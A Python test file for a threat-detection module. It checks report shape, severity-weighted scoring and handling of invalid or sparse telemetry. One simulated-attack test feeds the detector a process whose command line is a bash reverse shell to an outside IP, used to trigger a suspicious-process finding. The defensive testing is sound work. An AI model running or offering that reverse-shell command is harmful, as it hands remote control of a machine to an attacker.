"""The threat report: its shape, how findings combine into score and severity, and awkward inputs."""

import json

import numpy as np
import pytest

from smartcompute.detection.telemetry import Connections, InvalidTelemetry, Telemetry
from smartcompute.detection.threat import analyze_threats
from smartcompute.detection.threat.findings import Finding, overall_severity, threat_score
from tests.detection.scenarios import HOUR, MINUTE, START, HostScenario


def finding(severity: str, confidence: float) -> Finding:
    return Finding("port_scan", severity, confidence, START, START + 60, "s", {}, "r")


def telemetry(metrics: dict, timestamps=None, connections=None) -> Telemetry:
    points = len(next(iter(metrics.values())))
    times = START + 60.0 * np.arange(points) if timestamps is None else np.asarray(timestamps, dtype=float)
    return Telemetry(times, {k: np.asarray(v, dtype=float) for k, v in metrics.items()}, None, connections, ())


def test_with_no_findings_the_report_says_none_and_scores_zero():
    report = analyze_threats(HostScenario().build())
    assert report["threat_detected"] is False
    assert report["severity"] == "none"
    assert report["threat_score"] == 0.0
    assert report["findings"] == []


def test_the_score_compounds_confidence_times_severity_weight():
    assert threat_score([]) == 0.0
    assert threat_score([finding("critical", 1.0)]) == 1.0
    assert threat_score([finding("high", 0.8)]) == pytest.approx(0.8 * 0.85)
    assert threat_score([finding("high", 0.8), finding("medium", 0.5)]) == pytest.approx(
        1 - (1 - 0.8 * 0.85) * (1 - 0.5 * 0.6)
    )
    assert overall_severity([finding("low", 0.9), finding("high", 0.2)]) == "high"


def test_a_host_under_several_attacks_gets_every_finding_ordered_by_severity_and_a_json_report():
    host = HostScenario()
    host.add_port_scan(2 * HOUR)
    host.add_brute_force(4 * HOUR)
    host.add_process("bash", "bash -i >& /dev/tcp/185.220.101.45/4444 0>&1", 5 * HOUR, 10 * MINUTE)
    host.add_exfiltration(15 * HOUR, 20 * MINUTE)
    report = analyze_threats(host.build())

    assert json.loads(json.dumps(report, allow_nan=False)) == report
    assert report["threat_detected"] is True
    assert report["severity"] == "critical"
    assert report["threat_score"] > 0.95
    assert sorted(report["summary"]["findings_by_category"]) == [
        "brute_force",
        "data_exfiltration",
        "port_scan",
        "suspicious_process",
    ]
    ranks = ["low", "medium", "high", "critical"]
    severities = [ranks.index(f["severity"]) for f in report["findings"]]
    assert severities == sorted(severities, reverse=True)
    for item in report["findings"]:
        assert set(item) >= {"category", "severity", "confidence", "start", "end", "evidence", "recommendation"}
        assert item["start"] <= item["end"]


def test_a_single_point_and_empty_connections_do_not_crash():
    empty = Connections(*(np.array([], dtype=d) for d in (float, object, object, np.int64, object, float, float)))
    report = analyze_threats(telemetry({"cpu": [50.0]}, connections=empty))
    assert report["findings"] == [] and report["summary"]["connections"] == 0


def test_constant_series_raise_nothing():
    report = analyze_threats(telemetry({"cpu": [40.0] * 1440, "disk_write": [0.0] * 1440, "net_in": [5.0] * 1440}))
    assert report["findings"] == []


def test_a_percentage_above_100_is_invalid_telemetry_naming_the_field():
    with pytest.raises(InvalidTelemetry) as raised:
        analyze_threats(telemetry({"cpu_percent": [50.0, 140.0, 20.0]}))
    assert raised.value.errors == [
        ("data.metrics.cpu_percent[1]", "cpu is a percentage and must be at most 100 (got 140)")
    ]


def test_a_negative_byte_count_is_invalid_telemetry():
    with pytest.raises(InvalidTelemetry) as raised:
        analyze_threats(telemetry({"disk_write_bytes": [5.0, -1.0]}))
    assert raised.value.errors[0][0] == "data.metrics.disk_write_bytes[1]"


def test_a_bare_memory_metric_in_bytes_is_left_unrecognised_rather_than_rejected():
    report = analyze_threats(telemetry({"memory": [8e9, 8.1e9, 8.2e9]}))
    assert report["summary"]["metrics_used"] == {}
    assert report["findings"] == []
